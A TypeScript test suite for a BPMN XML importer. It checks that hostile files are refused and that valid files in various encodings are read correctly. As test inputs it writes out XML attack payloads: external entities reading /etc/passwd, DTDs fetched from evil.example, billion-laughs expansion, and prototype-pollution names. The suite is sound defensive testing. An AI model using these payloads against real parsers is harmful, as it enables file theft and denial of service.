import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { importBpmn, xmlLimits, xmlRefusals } from './index.ts'
import { readXml, UnreadableXml } from './xml.ts'

const head = '<?xml version="1.0" encoding="UTF-8"?>'
const bpmn = (inside: string, more = '') =>
  `<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" ${more}><process id="p">${inside}</process></definitions>`
const flow = '<startEvent id="s"/><endEvent id="e"/><sequenceFlow id="f" sourceRef="s" targetRef="e"/>'

/**
 * Each takes milliseconds. Other work on the machine only ever makes it slower, so the best of some tries must stay
 * below a second.
 */
function refused(text: string) {
  for (let at = 0; at < 4; at += 1) {
    const begun = performance.now()
    const read = importBpmn(text)
    if (performance.now() - begun < 1_000) return read.ok ? 'read' : read.reason
  }
  return 'slow'
}

describe('a hostile file is refused at once, and says why', () => {
  test.each<[string, () => string, string]>([
    ['a document type', () => `${head}<!DOCTYPE definitions>${bpmn(flow)}`, 'doctype'],
    [
      'an external entity',
      () => `${head}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>${bpmn('<startEvent id="s" name="&x;"/>')}`,
      'doctype',
    ],
    [
      'an external document type',
      () => `${head}<!DOCTYPE d SYSTEM "http://evil.example/d.dtd">${bpmn(flow)}`,
      'doctype',
    ],
    [
      'a parameter entity',
      () => `${head}<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>${bpmn(flow)}`,
      'doctype',
    ],
    [
      'a billion laughs',
      () =>
        `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${'abcdefghij'[at + 1]} "${`&${'abcdefghij'[at]};`.repeat(10)}">`).join('')}]>${bpmn('&j;')}`,
      'doctype',
    ],
    ['an entity that nobody declared', () => bpmn('<startEvent id="s" name="&xxe;"/>'), 'malformed'],
    [
      'a quadratic blow-up',
      () => `<!DOCTYPE l [<!ENTITY a "${'a'.repeat(50_000)}">]>${bpmn('&a;'.repeat(50_000))}`,
      'doctype',
    ],
    ['a document type that is hidden behind the root', () => `${bpmn(flow)}<!DOCTYPE d>`, 'doctype'],
    ['a hundred megabytes of attributes', () => `<definitions ${'a="b" '.repeat(17_500_000)}/>`, 'too_large'],
    [
      'more attributes than an element can have',
      () => `<definitions ${Array.from({ length: 100_000 }, (_, at) => `a${at}="b"`).join(' ')}/>`,
      'too_many',
    ],
    ['one attribute twice', () => '<definitions a="1" a="2"/>', 'malformed'],
    ['one long attribute that does not end', () => `<definitions a="${'x'.repeat(3_900_000)}`, 'malformed'],
    ['one name of millions of letters', () => bpmn(`<userTask id="t" name="${'Ж '.repeat(1_900_000)}"/>`), 'too_large'],
    [
      'a hundred thousand elements in each other',
      () => `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`,
      'too_deep',
    ],
    ['a hundred thousand elements beside each other', () => bpmn('<task/>'.repeat(100_000)), 'too_many'],
    [
      'namespaces upon namespaces',
      () => Array.from({ length: 110 }, (_, at) => `<a${at} xmlns:n${at}="u${at}">`).join(''),
      'too_many',
    ],
    ['thousands of comments that do not end', () => '<!--'.repeat(500_000), 'malformed'],
    ['a million brackets', () => '<'.repeat(1_000_000), 'malformed'],
    ['a million ampersands', () => bpmn('&'.repeat(1_000_000)), 'malformed'],
    [
      'more steps than any flow has',
      () => bpmn(Array.from({ length: 700 }, (_, at) => `<task id="t${at}"/>`).join('')),
      'too_many',
    ],
    [
      'choices of so many answers that they become more steps',
      () =>
        bpmn(
          Array.from(
            { length: 300 },
            (_, at) =>
              `<task id="t${at}"/>` +
              Array.from(
                { length: 9 },
                (_way, way) =>
                  `<sequenceFlow id="f${at}.${way}" sourceRef="t${at}" targetRef="t${way}">` +
                  `<conditionExpression>${way}</conditionExpression></sequenceFlow>`,
              ).join(''),
          ).join(''),
        ),
      'too_many',
    ],
    [
      'more arrows than any flow has',
      () =>
        bpmn(
          `${flow}${Array.from({ length: 20_000 }, (_, at) => `<sequenceFlow id="f${at}" name="n${at}" sourceRef="s" targetRef="e"/>`).join('')}`,
        ),
      'too_many',
    ],
    // That what follows is broken is not even come to.
    ['thousands of steps, before the rest is read', () => bpmn(`${'<task/>'.repeat(4_000)}<a>`), 'too_many'],
    [
      'thousands of arrows, before the rest is read',
      () => bpmn(`${flow}${'<sequenceFlow sourceRef="s" targetRef="e"/>'.repeat(9_000)}<a>`),
      'too_many',
    ],
    [
      'pools upon pools, before the rest is read',
      () =>
        bpmn(
          `${flow}</process><collaboration>${Array.from({ length: 4_000 }, (_, at) => `<participant id="o${at}" processRef="p${at}"/>`).join('')}</collaboration><process><a>`,
        ),
      'too_many',
    ],
    ['a name from a space of its own that is not declared', () => bpmn('<evil:task id="t"/>'), 'malformed'],
    ['another encoding', () => `<?xml version="1.0" encoding="windows-1251"?>${bpmn(flow)}`, 'encoding'],
    ['signs that XML does not know', () => bpmn('<startEvent id="s" name="\u0000"/>'), 'malformed'],
    ['a reference to such a sign', () => bpmn('<startEvent id="s" name="&#0;"/>'), 'malformed'],
    ['a reference to half a sign', () => bpmn('<startEvent id="s" name="&#xD800;"/>'), 'malformed'],
    ['a text that is no XML', () => 'MZ\u0090 this program cannot be run', 'malformed'],
    ['nothing', () => '', 'malformed'],
    ['a web page', () => '<html><body>502 Bad Gateway</body></html>', 'not_bpmn'],
    ['a file of the older XPDL', () => '<Package xmlns="http://www.wfmc.org/2009/XPDL2.2"/>', 'not_bpmn'],
    ['a flow in no namespace', () => '<definitions><process id="p"><task id="t"/></process></definitions>', 'not_bpmn'],
    [
      'a file without a process',
      () => '<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>',
      'no_process',
    ],
    ['a process without steps', () => bpmn(''), 'no_process'],
    [
      'a process of choices alone',
      () =>
        bpmn('<exclusiveGateway id="g"/><parallelGateway id="h"/><sequenceFlow id="f" sourceRef="g" targetRef="h"/>'),
      'no_process',
    ],
    ['an end that ends something else', () => '<a><b></a></b>', 'malformed'],
    ['two roots', () => `${bpmn(flow)}${bpmn(flow)}`, 'malformed'],
  ])('%s', (_what, text, reason) => {
    expect(refused(text())).toBe(reason)
  })

  test('every refusal is told with a line', () => {
    expect(importBpmn(`${head}\n<definitions>\n<a>\n</b>`)).toEqual({ ok: false, reason: 'malformed', line: 4 })
    expect(xmlRefusals).toContain(new UnreadableXml('too_deep').reason)
  })
})

test('large files within the limits are read in no time that anybody notices', () => {
  const wide = bpmn(
    `${flow}${'<textAnnotation id="t"><text>x</text></textAnnotation>'.repeat(20_000)}${'<association sourceRef="t" targetRef="t"/>'.repeat(15_000)}`,
  )
  expect(wide.length).toBeLessThan(xmlLimits.characters)
  // Not a second, but a test that read in minutes what multiplied with itself would run out of its time here.
  expect(importBpmn(wide).ok).toBe(true)
})

test('pools of many processes are found in no time either', () => {
  const many = bpmn(flow).replace(
    '</definitions>',
    `${'<collaboration/>'.repeat(50_000)}${Array.from({ length: 1_000 }, (_, at) => `<process id="q${at}"><task id="t${at}"/></process>`).join('')}</definitions>`,
  )
  expect(refused(many)).toBe('read')
})

test('names that mean something to a program mean nothing here', () => {
  const read = importBpmn(
    bpmn(
      '<startEvent id="__proto__" name="constructor"/><userTask id="toString" name="__proto__"/><sequenceFlow id="valueOf" sourceRef="__proto__" targetRef="toString"/>',
    ),
  )
  expect(read.ok && read.diagram.nodes.map(({ id, data }) => `${id} ${data.label}`)).toEqual(
    ['__proto__ constructor', 'toString __proto__', 'toString:reviewed Хянасан'].slice(0, 2),
  )
  expect(Object.prototype).not.toHaveProperty('polluted')
})

test('text, entities, comments and sections are read as they are meant', () => {
  const root = readXml(
    '<?xml version="1.0"?><!-- a --><r xmlns:x="u" a=\'&lt;"&#x44F;&#10;\' x:b="c\td"><![CDATA[<&>]]> &amp; <i/>tail</r>\n<?end?>',
  )
  expect([root.name, root.text, ...root.attributes]).toEqual(['r', '<&> & tail', ['a', '<"я\n'], ['{u}b', 'c d']])
  expect(root.children.map(({ name }) => name)).toEqual(['i'])
})

test('however lines end, they end in one way; an end that is meant stays', () => {
  const root = readXml('<r>a\r\nb\rc&#13;<![CDATA[d\r\ne]]></r>')
  expect(root.text).toBe('a\nb\nc\rd\ne')
})

test('whatever the text, there is an answer and never a crash', () => {
  const piece = fc.constantFrom(
    '<',
    '>',
    '</',
    '/>',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '<?xml ',
    '?>',
    '&',
    '&lt;',
    ';',
    '"',
    '=',
    ' ',
    'a',
    'x:',
    'xmlns="u"',
    '<a>',
    '</a>',
    'process',
    '\n',
    'é',
    bpmn(flow),
    '<!DOCTYPE',
    '[',
  )
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string(),
        fc.array(piece, { maxLength: 30 }).map((parts) => parts.join('')),
      ),
      (text) => {
        const read = importBpmn(text)
        expect(read.ok || xmlRefusals.includes(read.reason)).toBe(true)
      },
    ),
    { numRuns: 2_000 },
  )
})

describe('the bytes of a file are read in the encoding that they are in', () => {
  const text = (encoding: string, name: string) =>
    `<?xml version="1.0" encoding="${encoding}"?>${bpmn(`<startEvent id="s" name="${name}"/><endEvent id="e"/><sequenceFlow id="f" sourceRef="s" targetRef="e"/>`)}`
  const wide = (words: string, isBig = false) =>
    Uint8Array.from(
      [...words].flatMap((letter) =>
        isBig
          ? [letter.charCodeAt(0) >> 8, letter.charCodeAt(0) & 255]
          : [letter.charCodeAt(0) & 255, letter.charCodeAt(0) >> 8],
      ),
    )
  const narrow = (words: string, ...letters: number[]) =>
    Uint8Array.from([...words].flatMap((letter) => (letter === '*' ? letters : [letter.charCodeAt(0)])))
  test.each<[string, Uint8Array, string]>([
    ['UTF-8', new TextEncoder().encode(text('UTF-8', 'Хүсэлт')), 'Хүсэлт'],
    ['UTF-8 with a mark before it', new TextEncoder().encode(`\uFEFF${text('utf-8', 'Хүсэлт')}`), 'Хүсэлт'],
    ['UTF-16 with a mark before it', wide(`\uFEFF${text('UTF-16', 'Хүсэлт')}`), 'Хүсэлт'],
    ['UTF-16, the larger byte first', wide(`\uFEFF${text('UTF-16', '요청')}`, true), '요청'],
    ['UTF-16 without a mark', wide(text('UTF-16LE', 'Хүсэлт')), 'Хүсэлт'],
    [
      'UTF-8 that calls itself UTF-16, as a text in memory',
      new TextEncoder().encode(text('utf-16', 'Хүсэлт')),
      'Хүсэлт',
    ],
    ['windows-1251', narrow(text('windows-1251', '*'), 0xc7, 0xe0, 0xff, 0xe2, 0xea, 0xe0), 'Заявка'],
    ['ISO-8859-1', narrow(text('ISO-8859-1', 'Pr*fung'), 0xfc), 'Prüfung'],
    ['EUC-KR', narrow(text('EUC-KR', '*'), 0xbf, 0xe4, 0xc3, 0xbb), '요청'],
  ])('%s', (_what, bytes, name) => {
    const read = importBpmn(bytes)
    expect(read.ok && read.diagram.nodes[0]!.data.label).toBe(name)
  })

  test.each<[string, Uint8Array, string]>([
    ['bytes that are not of the encoding', narrow(text('UTF-8', '*'), 0xc7, 0xe0), 'encoding'],
    ['an encoding that nobody knows', narrow(text('EBCDIC-XYZ', 'a')), 'encoding'],
    ['more bytes than any flow has', new Uint8Array(4 * xmlLimits.characters + 1), 'too_large'],
    [
      'an entity in two bytes',
      wide(
        `\uFEFF<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>${bpmn('&x;')}`,
      ),
      'doctype',
    ],
  ])('and refused where they are %s', (_what, bytes, reason) => {
    expect(importBpmn(bytes)).toMatchObject({ ok: false, reason })
  })
})
